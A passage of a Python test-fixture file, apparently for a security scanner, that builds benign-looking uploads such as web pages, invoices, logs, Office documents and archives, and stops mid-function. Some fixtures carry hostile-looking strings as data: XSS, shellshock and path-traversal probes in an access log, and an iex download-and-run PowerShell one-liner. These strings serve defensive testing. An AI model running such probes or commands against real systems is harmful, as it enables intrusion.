    (and, once consented, loads the analytics tag by setting a script element's ``src``); its cart page
    sends the CSRF token from its cookie in a header to its own ``/api/orders``."""
    page = (
        b'<!doctype html><html><head><meta charset="utf-8"><title>Acme Outdoor</title></head><body>'
        b'<div id="consent" hidden><p>We use cookies to measure visits.</p>'
        b'<button onclick="choose(true)">Accept</button><button onclick="choose(false)">Decline</button></div>'
        b"<script>function consented(){return document.cookie.split('; ').find(function(c){"
        b"return c.indexOf('consent=')===0})}"
        b"function choose(yes){document.cookie='consent='+(yes?'yes':'no')+'; max-age=31536000; path=/';"
        b"fetch('/api/consent',{method:'POST',body:JSON.stringify({accepted:yes})});"
        b"document.getElementById('consent').hidden=true;if(yes)load()}"
        b"function load(){var s=document.createElement('script');"
        b"s.src='https://www.googletagmanager.com/gtag/js?id=G-ABC123';document.head.appendChild(s)}"
        b"var c=consented();if(!c)document.getElementById('consent').hidden=false;"
        b"else if(c==='consent=yes')load();</script></body></html>"
    )
    cart = (
        b"<!doctype html><html><head><title>Cart - Acme Outdoor</title></head><body><button id=pay>Pay</button>"
        b"<script>document.getElementById('pay').addEventListener('click',function(){"
        b"fetch('/api/orders',{method:'POST',headers:{'Content-Type':'application/json','X-CSRF-Token':"
        b"document.cookie.match(/csrftoken=([^;]+)/)[1]},body:JSON.stringify({cart:1})})"
        b".then(function(r){if(r.ok)location='/thanks'})})</script></body></html>"
    )
    return uploads(("site/index.html", page), ("site/cart.html", cart))


def h_legacy_app_eval(ctx: Ctx) -> Traffic:
    """An older internal app's page: one script shows the signed-in user's name from the payload of its
    token (``atob``), another still parses the menu it loads with ``eval``, as pages did before
    ``JSON.parse``. Both names are on the page; nothing decoded is run."""
    page = (
        b'<!doctype html><html><head><meta charset="utf-8"><title>Acme Intranet</title></head><body>'
        b'<span id="user"></span><ul id="menu"></ul><script>var t=sessionStorage.getItem("token");'
        b"if(t){var claims=JSON.parse(atob(t.split('.')[1]));"
        b"document.getElementById('user').textContent=claims.name}</script>"
        b"<script>var x=new XMLHttpRequest();x.onload=function(){var items=eval('('+x.responseText+')');"
        b"for(var i=0;i<items.length;i++){var li=document.createElement('li');li.textContent=items[i].title;"
        b"document.getElementById('menu').appendChild(li)}};x.open('GET','/api/menu');x.send()</script>"
        b"</body></html>"
    )
    return uploads(("intranet/index.html", page))


def h_print_views(ctx: Ctx) -> Traffic:
    """A billing app's printable invoice opens the print dialog when it loads and closes after (with
    ``javascript:`` links to print again and go back), and its status board refreshes itself every 30 s (``setInterval`` handed a function by name), both from
    ``<body onload>``."""
    invoice = (
        b"<!doctype html><html><head><title>Invoice 2026-1187 - Acme Billing</title></head>"
        b'<body onload="window.print();window.close()"><h1>Invoice 2026-1187</h1>'
        b"<table><tr><td>Support plan</td><td>EUR 480.00</td></tr></table>"
        b'<a href="javascript:window.print()">Print again</a> <a href="javascript:history.back()">Back</a>'
        b"</body></html>"
    )
    board = (
        b'<!doctype html><html><head><title>Status - Acme Billing</title><script src="/js/board.js"></script>'
        b'</head><body onload="refresh();setInterval(refresh, 30000)"><div id="board"></div></body></html>'
    )
    return uploads(("exports/invoice-2026-1187.html", invoice), ("site/status.html", board))


def h_cms_handlers(ctx: Ctx) -> Traffic:
    """A page exported by an older CMS: its body starts the page with the ``javascript:`` label many
    templates still write, scrolls to the top through ``window``, and its embedded form grows to fit
    its content when it loads (``this.style.height = ... + 'px'``)."""
    page = (
        b'<!doctype html><html><head><title>Opening hours - Acme Library</title><script src="/js/site.js">'
        b'</script></head><body onload="javascript:initMenu();window.scrollTo(0, 0);">'
        b'<iframe src="/forms/contact" onload="this.style.height=this.contentWindow.document.body.scrollHeight'
        b"+'px'\"></iframe><p>Mon-Fri 9-18</p></body></html>"
    )
    return uploads(("site/hours.html", page), ("site/js/site.js", b"function initMenu(){}\n"))


def h_sso_and_guarded_init(ctx: Ctx) -> Traffic:
    """A single sign-on hand-off page, as SAML's POST binding and OAuth's ``form_post`` write it: the body
    submits its one form of hidden fields to the service when it loads (``document.forms[0].submit()``).
    And a reports page that starts its script only once it has loaded, guarding the call on the
    function being there (``if(typeof init==='function')init()``, ``window.app && app.start()``)."""
    handoff = (
        b"<!doctype html><html><head><title>Signing you in - Acme</title></head>"
        b'<body onload="document.forms[0].submit()"><noscript><p>Press Continue to go on.</p></noscript>'
        b'<form method="post" action="https://sso.acme-corp.example/saml/acs">'
        b'<input type="hidden" name="SAMLResponse" value="PHNhbWxwOlJlc3BvbnNlPjwvc2FtbHA6UmVzcG9uc2U+">'
        b'<input type="hidden" name="RelayState" value="/dashboard">'
        b'<noscript><input type="submit" value="Continue"></noscript></form></body></html>'
    )
    reports = (
        b'<!doctype html><html><head><title>Reports - Acme</title><script src="/js/reports.js"></script>'
        b"</head><body onload=\"if(typeof init==='function'){init();} window.app && app.start()\">"
        b'<div id="charts"></div></body></html>'
    )
    return uploads(("site/sso/handoff.html", handoff), ("site/reports.html", reports))


def h_archived_access_logs(ctx: Ctx) -> Traffic:
    """A customer archives its web servers' access logs, gzipped, as every site does. Like every
    public server's logs, they hold the probes scanners sent it: cross-site scripting in query strings
    (raw and percent-encoded), a shellshock agent, path traversal; the lines are text, never a page."""
    probes = [
        '"GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1" 400 0 "-" "Mozilla/5.0"',
        '"GET /?s=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E HTTP/1.1" 404 0 "-" "sqlmap/1.7"',
        '"GET /p?x=\\"><svg onload=alert(1)> HTTP/1.1" 404 0 "-" "Mozilla/5.0"',
        '"GET /cgi-bin/status HTTP/1.1" 404 0 "-" "() { :; }; /bin/bash -c \\"id\\""',
        '"GET /../../etc/passwd HTTP/1.1" 400 0 "-" "curl/8.5.0"',
    ]
    rows = []
    for i in range(20_000):
        ip = f"198.51.100.{i % 250 + 1}"
        req = (
            probes[i // 4000]
            if i % 4000 == 17
            else f'"GET /products/{i % 900} HTTP/1.1" 200 5120 "-" "Mozilla/5.0"'
        )
        rows.append(f"{ip} - - [01/Dec/2026:10:{i % 60:02d}:00 +0000] {req}")
    body = ("\n".join(rows) + "\n").encode()
    return Traffic(
        uploads=[
            Upload(
                "logs/web/2026-12-01/access.log.gz",
                F.gzip_of(body, "access.log"),
                content_type="application/gzip",
            ),
            Upload("logs/web/2026-12-01/access.log", body, content_type="text/plain"),
        ]
    )


def h_integrations_page(ctx: Ctx) -> Traffic:
    """A CRM's static front-end: its integrations page names the services it connects in its headings
    and labels (Amazon S3, PayPal, Microsoft 365) and masks the secrets it asks for, each form posting
    to the CRM's own API; its backup product's settings page carries the brand it serves in its title."""
    integrations = (
        b"<!doctype html><html><head><title>Integrations - Acme CRM</title></head><body><h1>Integrations</h1>"
        b'<section><h2>Google Workspace</h2><a href="/oauth/google">Connect</a></section>'
        b'<section><h2>Amazon S3 export</h2><form action="/api/integrations/s3" method="post">'
        b'<label>Access key ID <input name="key_id"></label>'
        b'<label>Secret access key <input type="password" name="secret_access_key"></label>'
        b"<button>Save</button></form></section>"
        b'<section><h2>PayPal payouts</h2><form action="/api/integrations/paypal" method="post">'
        b'<label>PayPal client ID <input name="client_id"></label>'
        b'<label>PayPal client secret <input type="password" name="client_secret"></label>'
        b"<button>Save</button></form></section></body></html>"
    )
    backup = (
        b"<!doctype html><html><head><title>Acme Backup for Microsoft 365 - Settings</title></head><body>"
        b'<h1>Acme Backup for Microsoft 365</h1><form action="/api/settings/mail" method="post">'
        b'<label>SMTP password <input type="password" name="smtp_password"></label><button>Save</button>'
        b"</form></body></html>"
    )
    return uploads(("app/integrations.html", integrations), ("app/backup-settings.html", backup))


def h_faq_and_mobile_menu(ctx: Ctx) -> Traffic:
    """A monitoring product built on the provider's platform says so on its site: its FAQ's answers
    are collapsed (``.answer{display:none}``, shown by ``.open .answer``), its mobile menu is hidden
    until its button opens it by id, and that menu repeats the desktop menu's "Status (hosted on CIMCON)"."""
    page = (
        b"<!doctype html><html><head><title>FAQ - Acme Monitoring</title><style>.answer{display:none}"
        b'.open .answer{display:block}</style></head><body><h1>Questions</h1><div class="q">'
        b"<button onclick=\"this.parentNode.classList.toggle('open')\">Does Acme run on CIMCON?</button>"
        b'<div class="answer">Yes: Acme is built on the CIMCON platform and reads its API.</div></div>'
        b"<button onclick=\"document.getElementById('mobile-menu').hidden=false\">Menu</button>"
        b'<nav id="mobile-menu" hidden><a href="/status">Status (hosted on CIMCON)</a></nav>'
        b'<nav class="desktop"><a href="/status">Status (hosted on CIMCON)</a></nav></body></html>'
    )
    return uploads(("site/faq.html", page))


def h_own_login_page(ctx: Ctx) -> Traffic:
    """The shop's own sign-in page: a password form under its name, social sign-in links and the
    payment brands it accepts named in passing."""
    page = (
        b"<!doctype html><html><head><title>Sign in - Acme Shop</title></head><body>"
        b'<h1>Sign in to Acme Shop</h1><form action="/session" method="post">'
        b'<label>Email <input type="email" name="email"></label>'
        b'<label>Password <input type="password" name="password"></label><button>Sign in</button></form>'
        b'<p>Or continue with <a href="/auth/google">Google</a> or <a href="/auth/apple">Apple</a>.</p>'
        b"<footer>We accept Visa, Mastercard and PayPal.</footer></body></html>"
    )
    return uploads(("site/login.html", page))


def h_readme_example_keys(ctx: Ctx) -> Traffic:
    """A project's README quoting AWS's documented example credentials and a test card number."""
    readme = (
        b"# Deploy\n\nSet your credentials, e.g.\n\n    export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"
        b"    export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n\n"
        b"Pay with the test card 4242 4242 4242 4242, any CVC.\n"
    )
    return uploads(("repo/README", readme))


def h_payment_test_fixtures(ctx: Ctx) -> Traffic:
    """A shop's test fixtures: checkout cases with the card numbers payment processors publish for
    testing (4242 4242 4242 4242 and the declines, 3-D Secure and network variants)."""
    cards = ["4242424242424242", "4000056655665556", "5555555555554444", "2223003122003222", "5105105105105100",
             "378282246310005", "6011111111111117", "3056930009020004", "3566002020360505", "4000000000000002",
             "4000000000009995", "4000002500003155", "4111111111111111", "4012888888881881"]  # fmt: skip
    cases = [
        f'  {{"case": "checkout-{i}", "card": "{c}", "exp": "12/34", "cvc": "123"}}'
        for i, c in enumerate(cards)
    ]
    return uploads(("repo/tests/fixtures/cards.json", ("[\n" + ",\n".join(cases) + "\n]\n").encode()))


def h_invoice_archive(ctx: Ctx) -> Traffic:
    """A year of a firm's invoices zipped for its accountant: each names the firm's own bank account
    (one IBAN) in its footer and payment instructions."""
    iban = F.iban_de(ctx.rng)
    members = [
        (
            f"invoices/2026/INV-2026-{i:04d}.txt",
            (
                f"Acme Consulting GmbH - Invoice INV-2026-{i:04d}\nBilled to: client {ctx.rng.randrange(100, 999)}\n"
                f"Consulting, {ctx.rng.randrange(2, 40)} h x 120.00 EUR\n\nPlease pay within 14 days to\n"
                f"IBAN {iban}  BIC COBADEFFXXX\n-- Acme Consulting GmbH, IBAN {iban}\n"
            ).encode(),
        )
        for i in range(1, 41)
    ]
    return uploads(("backups/invoices-2026.zip", F.zip_of(members)))


def h_country_codes(ctx: Ctx) -> Traffic:
    """A shipping firm's delivery zones by country, sorted by ISO code from Mozambique ("MZ,..."), and a
    manifest whose first line is its code ("MZ-2291 ...")."""
    zones = [("MZ", "Mozambique", "Maputo"), ("NA", "Namibia", "Windhoek"), ("ZA", "South Africa", "Pretoria"),
             ("ZM", "Zambia", "Lusaka"), ("ZW", "Zimbabwe", "Harare")]  # fmt: skip
    rows = [
        f"{code},{name},{hub},zone-{i % 3 + 1},{ctx.rng.randrange(2, 9)}d"
        for i, (code, name, hub) in enumerate(zones)
    ]
    manifest = "MZ-2291 shipment manifest\nPallets: 14\nCarrier: Maersk, Durban to Maputo\n"
    return uploads(
        ("shipping/zones.csv", ("\n".join(rows) + "\n").encode()),
        ("shipping/manifests/MZ-2291.txt", manifest.encode()),
    )


def h_invoice_pdfs(ctx: Ctx) -> Traffic:
    """A month of invoices as PDFs: the firm's address, its own IBAN, amounts and order numbers."""
    iban = F.iban_de(ctx.rng)
    return uploads(
        *(
            (
                f"invoices/2026-11/INV-{i:04d}.pdf",
                F.text_pdf([f"Acme Consulting GmbH - Invoice INV-2026-{i:04d}", f"Order SO-{ctx.rng.randrange(10**6, 10**7)}",
                            f"Consulting {ctx.rng.randrange(2, 40)} h x 120.00 EUR", f"Pay to IBAN {iban}"]),
            )
            for i in range(1, 6)
        )
    )  # fmt: skip


def h_bank_statements(ctx: Ctx) -> Traffic:
    """A firm's bookkeeping: November's bank statement as the bank's CSV export and as its PDF, 30
    payments to and from suppliers and customers, each with the counterparty's IBAN."""
    rows = [f"2026-11-{1 + i % 28:02d};{F.person(ctx.rng)} GmbH;{F.iban_de(ctx.rng)};{ctx.rng.randrange(-90000, 90000) / 100}"
            for i in range(30)]  # fmt: skip
    csv = ("date;counterparty;iban;amount_eur\n" + "\n".join(rows) + "\n").encode()
    return uploads(("books/2026-11/statement.csv", csv), ("books/2026-11/statement.pdf", F.text_pdf(rows)))


def h_launch_spike(ctx: Ctx) -> Traffic:
    """A hobby app whose web front-end calls the API with its key: four regular users a day for two
    days, then a post about it is shared and 120 visitors arrive in an hour, each from a network of its
    own, each browsing a few pages."""
    me, lines = ctx.account_id, []
    browsers = [ua.replace("Chrome/130.0", f"Chrome/{124 + v}.0") for ua in BROWSER_UAS for v in range(4)]
    regulars = [(ctx.ip(net=200 + u), browsers[u % len(browsers)]) for u in range(4)]
    for day_back in (2, 1):
        day_start = (ctx.end_ms // DAY_MS - day_back) * DAY_MS + 9 * 60 * MIN
        for ip, agent in regulars:
            for at in gaps(ctx.rng, day_start + ctx.rng.randrange(6 * 60 * MIN), 25, 20 * SEC):
                lines.append(
                    Line(at, ip, f"/notes/{ctx.rng.randrange(1, 300)}", "/notes/{id}", me, 200, agent)
                )
    for visitor in range(120):
        ip, agent = ctx.ip(net=visitor), browsers[visitor % len(browsers)]
        for at in gaps(ctx.rng, ctx.end_ms - 60 * MIN + ctx.rng.randrange(55 * MIN), 6, 15 * SEC):
            lines.append(Line(at, ip, f"/notes/{ctx.rng.randrange(1, 300)}", "/notes/{id}", me, 200, agent))
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], regulars[0][0])


def h_security_docs(ctx: Ctx) -> Traffic:
    """A product's developer documentation: its guide to output encoding shows, in fenced code blocks,
    the cross-site scripting payloads the guide teaches readers to neutralise, and the page built from
    it shows them escaped."""
    guide = (
        b"# Preventing cross-site scripting\n\nNever put user input into a page unescaped. An attacker "
        b"who controls a comment can submit:\n\n```html\n<script>alert(document.cookie)</script>\n```\n\n"
        b"or, where tags are stripped but attributes are not:\n\n```html\n<img src=x onerror=alert(1)>\n"
        b'<a href="javascript:alert(1)">click</a>\n```\n\nEscape on output with `html.escape(value)`, '
        b"and send `Content-Security-Policy: script-src 'self'`.\n"
    )
    page = (
        b'<!doctype html><html><head><meta charset="utf-8"><title>Preventing XSS - Acme Docs</title></head>'
        b"<body><h1>Preventing cross-site scripting</h1><pre><code>&lt;script&gt;alert(document.cookie)"
        b"&lt;/script&gt;</code></pre><pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre></body></html>"
    )
    return Traffic(
        uploads=[
            Upload(f"docs/guides/xss.{MD}", guide, content_type="text/markdown; charset=utf-8"),
            Upload("site/guides/xss.html", page, content_type="text/html; charset=utf-8"),
        ]
    )


def h_legacy_site(ctx: Ctx) -> Traffic:
    """A shop's older web site: the page starts its script from ``<body onload>``, its logo falls back
    to a second copy ``onerror``, its stylesheet loads with the ``rel=preload`` idiom, and an embedded map
    resizes itself ``onload``: handlers that run by themselves, each doing what a page does."""
    page = (
        b'<!doctype html><html><head><meta charset="utf-8"><title>Acme Hardware</title>'
        b'<script src="/js/shop.js"></script>'
        b'<link rel="preload" href="/css/shop.css" as="style" onload="this.onload=null;this.rel=\'stylesheet\'">'
        b'</head><body onload="initShop()"><img src="/img/logo.webp" onerror="this.onerror=null;this.src=\'/img/logo.png\'">'
        b'<iframe src="/embed/store-map" onload="resizeFrame(this)"></iframe><p>Opening hours: 8-18</p></body></html>'
    )
    return uploads(
        ("site/index.html", page), ("site/js/shop.js", b"function initShop(){}\nfunction resizeFrame(f){}\n")
    )


def h_blank_disk_images(ctx: Ctx) -> Traffic:
    """A CI pipeline publishing its build artefacts: a freshly formatted VM disk image under xz and
    bzip2 (mostly zeros: over 1000:1), and a database backup whose write-ahead segment is preallocated
    (16 MiB of zeros) in a tar.gz."""
    image = F.sparse_disk_image(ctx.rng)
    backup = F.tar_gz_of(
        [("pg/pg_wal/000000010000000000000001", bytes(16 << 20)), ("pg/postgresql.conf", b"port = 5432\n")]
    )
    return uploads(
        ("builds/2026-12-01/disk.img.xz", F.xz_of(image)),
        ("builds/2026-12-01/disk.img.bz2", bz2.compress(image)),
        ("backups/pg-2026-12-01.tar.gz", backup),
    )


def h_mail_archive(ctx: Ctx) -> Traffic:
    """Saved e-mails: an invoice PDF and a photo sent as attachments (base64), and a plain reply."""
    invoice = F.text_pdf(["Acme Consulting GmbH - Invoice INV-2026-0042", "Consulting 12 h x 120.00 EUR"])
    return uploads(
        ("mail/2026-11/invoice.eml", F.email_with("Invoice 42", "Attached, thanks.", [("INV-0042.pdf", invoice, "application/pdf")])),
        ("mail/2026-11/site-photo.eml", F.email_with("Site photo", "From today's visit.", [("site.jpg", F.jpeg(ctx.rng, 40_000), "image/jpeg")])),
        ("mail/2026-11/reply.eml", F.email_with("Re: schedule", "Tuesday works for us.", [])),
    )  # fmt: skip


def h_export_ids(ctx: Ctx) -> Traffic:
    rows = ["order_no,order_uuid,customer,sku,amount_eur,created"]
    for i in range(2000):
        u = "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}".format(
            *tuple(ctx.rng.getrandbits(b) for b in (32, 16, 12, 12, 48))
        )
        rows.append(
            f"SO-2026-{1_200_000 + i * 7},{u},C-{ctx.rng.randrange(10**5, 10**6)},SKU{ctx.rng.randrange(10**4)},{ctx.rng.randrange(100, 99999) / 100},2026-11-{1 + i % 28:02d}"
        )
    return uploads(("exports/orders-2026-11.csv", ("\n".join(rows) + "\n").encode()))


def h_order_ids_16(ctx: Ctx) -> Traffic:
    rows = ["order_id,status"] + [
        f"{ctx.rng.randrange(10**15, 10**16)},{ctx.rng.choice(['paid', 'shipped', 'refunded'])}"
        for _ in range(1000)
    ]
    return uploads(("exports/order-ids.csv", ("\n".join(rows) + "\n").encode()))


def h_parts_catalogue(ctx: Ctx) -> Traffic:
    """A hardware wholesaler's stock list: 400 part numbers written 415-22-9034 (the shape of an SSN,
    which has no check digit), with descriptions, bins and quantities, as CSV and inside a zipped export."""
    rows = ["part_no,description,bin,qty"] + [
        f"{n // 10**6:03d}-{n // 10**4 % 100:02d}-{n % 10**4:04d},"
        f"{ctx.rng.choice(['Hex bolt', 'Washer', 'Lock nut', 'Anchor'])} M{ctx.rng.randrange(3, 13)},"
        f"B{ctx.rng.randrange(1, 60):02d},{ctx.rng.randrange(1, 900)}"
        for n in F.ssn_numbers(ctx.rng, 400)
    ]
    data = ("\n".join(rows) + "\n").encode()
    zipped = F.zip_of(
        [("export/parts.csv", data), ("export/README.txt", b"Stock export, one part a line.\n")]
    )
    return uploads(("stock/parts.csv", data), ("stock/export-2026-11.zip", zipped))


def h_cloudtrail_archive(ctx: Ctx) -> Traffic:
    """The account keeps its AWS CloudTrail logs, gzipped JSON as CloudTrail delivers them: every event
    names the access key id that signed it (temporary ASIA ids for roles, an AKIA id for its CI user),
    never a secret."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"

    def key_id(prefix: str) -> str:
        return prefix + "".join(ctx.rng.choice(alphabet) for _ in range(16))

    ci_user = key_id("AKIA")
    files = []
    for hour in range(3):
        events = [
            {
                "eventVersion": "1.08",
                "userIdentity": (
                    {"type": "IAMUser", "userName": "ci", "accessKeyId": ci_user}
                    if i % 10 == 0
                    else {"type": "AssumedRole", "accessKeyId": key_id("ASIA")}
                ),
                "eventTime": f"2026-11-30T{10 + hour:02d}:{i % 60:02d}:00Z",
                "eventSource": "s3.amazonaws.com",
                "eventName": ctx.rng.choice(["GetObject", "PutObject", "ListObjects"]),
                "awsRegion": "eu-west-1",
                "sourceIPAddress": "198.51.100.20",
                "eventID": f"{ctx.rng.getrandbits(128):032x}",
            }
            for i in range(40)
        ]
        name = f"logs/AWSLogs/123456789012/CloudTrail/eu-west-1/2026/11/30/trail_20261130T{10 + hour:02d}00Z.json.gz"
        files.append((name, F.gzip_of(json.dumps({"Records": events}).encode())))
    return uploads(*files)


def h_backup_10001(ctx: Ctx) -> Traffic:
    members = [
        (f"backup/notes/{i:05d}.txt", f"note {i}: {ctx.rng.choice(['todo', 'done', 'call back'])}\n".encode())
        for i in range(10_001)
    ]
    return uploads(("backups/notes-2026-11-30.zip", F.zip_of(members)))


def h_docx_zip_zip(ctx: Ctx) -> Traffic:
    docx = F.office("docx", "Quarterly report: revenue up 4 %, hiring two engineers.")
    inner = F.zip_of([("q3/report.docx", docx), ("q3/readme.txt", b"see report\n")])
    return uploads(("shared/q3-bundle.zip", F.zip_of([("bundle/q3.zip", inner)])))


def h_ear(ctx: Ctx) -> Traffic:
    def jar(name: str) -> bytes:
        classes = [
            (f"com/acme/{name}/C{i}.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + ctx.rng.randbytes(600))
            for i in range(15)
        ]
        return F.zip_of([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\n"), *classes])

    wars = [
        (
            f"{w}.war",
            F.zip_of(
                [
                    ("WEB-INF/web.xml", b"<web-app/>"),
                    *[(f"WEB-INF/lib/{w}-{j}.jar", jar(f"{w}{j}")) for j in range(3)],
                ]
            ),
        )
        for w in ("shop", "admin")
    ]
    ear = F.zip_of([("META-INF/application.xml", b"<application/>"), *wars])
    return uploads(("deploy/acme-platform-5.2.ear", ear))


def h_video_large(ctx: Ctx) -> Traffic:
    """A 6 GiB video on a business plan, simulated at 1:1024: a 6 MiB MP4 against the scanner's default
    limit divided by 1024 (5 MiB), so the over-the-limit path runs as a 6 GiB upload would run it."""
    t = uploads(("media/launch-keynote-4k.mp4", F.mp4(ctx.rng, 6 * 1024 * 1024)))
    t.scan_limit_bytes = 5 * 1024 * 1024
    return t


def h_rtf_documents(ctx: Ctx) -> Traffic:
    """A firm's RTF documents, as word processors and old systems still write them: a letter, a quarterly
    report embedding its Excel chart, and an exported order form."""
    chart = F.xls(
        [
            [
                [("Quarter", None), ("Sales", None)],
                *[[(f"Q{q}", None), (1000 + 250 * q, "General")] for q in range(1, 5)],
            ]
        ]
    )
    return uploads(
        ("letters/2026-11-reminder.rtf", F.rtf("Dear Ms Weber,\nYour subscription renews on 1 January.\nKind regards")),
        ("reports/q3.rtf", F.rtf("Q3 report\nSales rose in every region.", [("Excel.Chart.8", chart)])),
        ("forms/order-4471.rtf", F.rtf("Order 4471\nQty 3 x Widget {blue}\nTotal EUR 71.40")),
    )  # fmt: skip


DOC_RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"


def h_documents_with_links(ctx: Ctx) -> Traffic:
    """A consultancy's documents and the links Office writes into them: a proposal's hyperlinks, a board
    report whose chart is linked from the author's workbook on disk and a share, Word's Normal template on
    disk, a deck's hyperlinks, a letter on the firm's intranet template (an address in its private
    network), an RTF memo linking its figures from a share, and a contract on the firm's SharePoint
    template (a web address: a review, as a remote template on an attacker's domain is)."""
    normal = "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"
    return uploads(
        ("proposals/acme-2027.docx", F.office("docx", "Proposal", links=[
            (DOC_RELS, "hyperlink", "https://www.example.com/terms?lang=en&amp;v=2", True),
            (DOC_RELS, "hyperlink", "mailto:sales@example.com", True),
            (DOC_RELS, "image", "media/image1.png", False),
        ])),
        ("board/q3-report.docx", F.office("docx", "Board report Q3", links=[
            (DOC_RELS, "oleObject", "file:///C:\\Users\\ana\\Documents\\Budget%202027.xlsx!Sheet1!R1C1:R9C4", True),
            (DOC_RELS, "oleObject", "file://fileserver/finance/Forecast.xlsx", True),
            (SETTINGS_RELS, "attachedTemplate", normal, True),
        ])),
        ("decks/kickoff.pptx", F.office("pptx", "Kick-off", links=[
            ("ppt/slides/_rels/slide1.xml.rels", "hyperlink", "https://intranet.example.com/wiki/Kickoff", True),
        ])),
        ("letters/welcome.docx", F.office("docx", "Welcome", links=[
            (SETTINGS_RELS, "attachedTemplate", "http://10.20.0.15/templates/letter.dotx", True),
        ])),
        ("memos/figures.rtf", F.rtf("Figures attached", [("Excel.Sheet.8", F.packaged("Figures.xlsx", b"PK"))], linked=True, update=True)),
        ("contracts/msa.docx", F.office("docx", "Master services agreement", links=[
            (SETTINGS_RELS, "attachedTemplate", "https://example.sharepoint.com/sites/legal/Templates/MSA.dotx", True),
        ])),
    )  # fmt: skip


def h_pages_with_inline_files(ctx: Ctx) -> Traffic:
    """A web app's pages with what they inline: a logo as a PNG data URL, a font in its stylesheet, a
    brochure's PDF behind a download link, and an export page handing the user their orders as a zip of
    CSV files built in the browser (``Blob``, ``a.download``)."""
    png = b"\x89PNG\r\n\x1a\n" + ctx.rng.randbytes(900)
    font = b"wOF2\x00\x01\x00\x00" + ctx.rng.randbytes(1200)
    pdf = F.pdf("Spring collection")
    rows = "\n".join(f"{i},{ctx.rng.randrange(100, 9999) / 100:.2f}" for i in range(200))
    export = F.zip_of([("orders.csv", ("id,total\n" + rows).encode()), ("README.txt", b"Your orders.")])
    home = (
        "<!doctype html><html><head><title>Acme</title><style>@font-face{font-family:Acme;"
        f"src:url(data:font/woff2;base64,{base64.b64encode(font).decode()})}}</style></head><body>"
        f'<img alt="Acme" src="data:image/png;base64,{base64.b64encode(png).decode()}">'
        f'<a download="brochure.pdf" href="data:application/pdf;base64,{base64.b64encode(pdf).decode()}">'
        "Brochure</a></body></html>"
    ).encode()
    page = _saving_page("Your orders", base64.b64encode(export).decode(), "orders.zip")
    return Traffic(uploads=[
        Upload("site/index.html", home, content_type="text/html"),
        Upload("site/export.html", page, content_type="text/html"),
    ])  # fmt: skip


def h_disk_images(ctx: Ctx) -> Traffic:
    """Disk images as people keep them: an installer image (Rock Ridge names) with its README and a
    package, and a photo backup burnt with Joliet names."""
    when = ctx.end_ms / 1000
    installer = F.iso_of(
        [
            ("README.md", b"# Acme tools 3.2\n\nRun the installer."),
            ("pool/acme-tools_3.2_amd64.deb", ctx.rng.randbytes(60_000)),
        ],
        when=when,
        names="rock-ridge",
    )
    photos = F.iso_of(
        [(f"2026/summer/IMG_{i:04d}.jpg", F.jpeg(ctx.rng, 20_000)) for i in range(6)], when=when
    )
    return uploads(("isos/acme-tools-3.2.iso", installer), ("backups/photos-2026.img", photos))  # fmt: skip


def h_desktop_shortcuts(ctx: Ctx) -> Traffic:
    """A laptop's desktop backed up as a zip: shortcuts to the browser with the webmail's address, to the
    team share, and to the administrator's logon script (PowerShell, hidden window: a review)."""
    chrome = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
    desktop = F.zip_of([
        ("Desktop/Mail.lnk", F.shortcut(chrome, "https://mail.example.com")),
        ("Desktop/Team share.lnk", F.shortcut(r"C:\Windows\explorer.exe", r"\\fs01\team")),
        ("Desktop/Map drives.lnk", F.shortcut(POWERSHELL, r"-ExecutionPolicy Bypass -WindowStyle Hidden -File \\fs01\netlogon\map.ps1")),
        ("Desktop/todo.txt", b"renew the lease"),
    ])  # fmt: skip
    return uploads(("backups/laptop-desktop.zip", desktop))


def h_macro_workbooks(ctx: Ctx) -> Traffic:
    """A finance team's macro workbooks: one refreshing its exchange rates from a web API as it opens,
    one whose button opens its folder in Explorer. Each is a review (macros), never a strike."""
    rates = "\n".join([
        'Attribute VB_Name = "ThisWorkbook"',
        "Private Sub Workbook_Open()",
        '    Dim r As Object: Set r = CreateObject("MSXML2.XMLHTTP")',
        '    r.Open "GET", "https://api.example.com/v1/rates?base=EUR", False: r.Send',
        '    Sheets("Rates").Range("A1").Value = r.responseText',
        '    Application.Run "RefreshCharts"',
        "End Sub",
    ])  # fmt: skip
    folder = 'Attribute VB_Name = "Buttons"\nSub OpenFolder()\n    Shell "explorer.exe " & ThisWorkbook.Path, vbNormalFocus\nEnd Sub\n'
    return uploads(
        ("finance/rates.xlsm", F.office("xlsx", "Rates", macros=[rates])),
        ("finance/close.xlsm", F.office("xlsx", "Month close", macros=[folder])),
    )


def h_onenote_notebooks(ctx: Ctx) -> Traffic:
    """A team's OneNote sections: meeting notes with the minutes as a PDF, a whiteboard photo and the
    budget workbook dropped on the page, and a runbook embedding the backup script it describes and the
    package manager's install one-liner (a download in plain sight: a review, not a strike)."""
    backup = b"@echo off\r\nrobocopy C:\\Data \\\\nas\\backup /MIR /LOG:C:\\logs\\backup.txt\r\n"
    install = (b"powershell -NoProfile -c \"iex ((New-Object System.Net.WebClient).DownloadString("
               b"'https://community.chocolatey.org/install.ps1'))\"\r\n")  # fmt: skip
    return uploads(
        ("notebooks/meetings.one", F.onenote([F.pdf("Minutes of 3 December"), F.jpeg(ctx.rng, 30_000),
                                              F.office("xlsx", "Budget 2027")], "Team meeting")),
        ("notebooks/runbook.one", F.onenote([backup, install], "Nightly backup; setting up a new laptop")),
    )  # fmt: skip


def h_linux_packages(ctx: Ctx) -> Traffic:
    """A build server's artefacts: a .deb of its tool (an ELF binary, its docs), the initramfs it builds
    (cpio, compressed with zstd as current kernels' are), and a log bundle compressed with zstd."""
    from backports import zstd

    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + ctx.rng.randbytes(20_000)
    deb = F.ar_of(
        [
            ("debian-binary", b"2.0\n"),
            ("control.tar.gz", F.tar_gz_of([("control", b"Package: acme\n")])),
            (
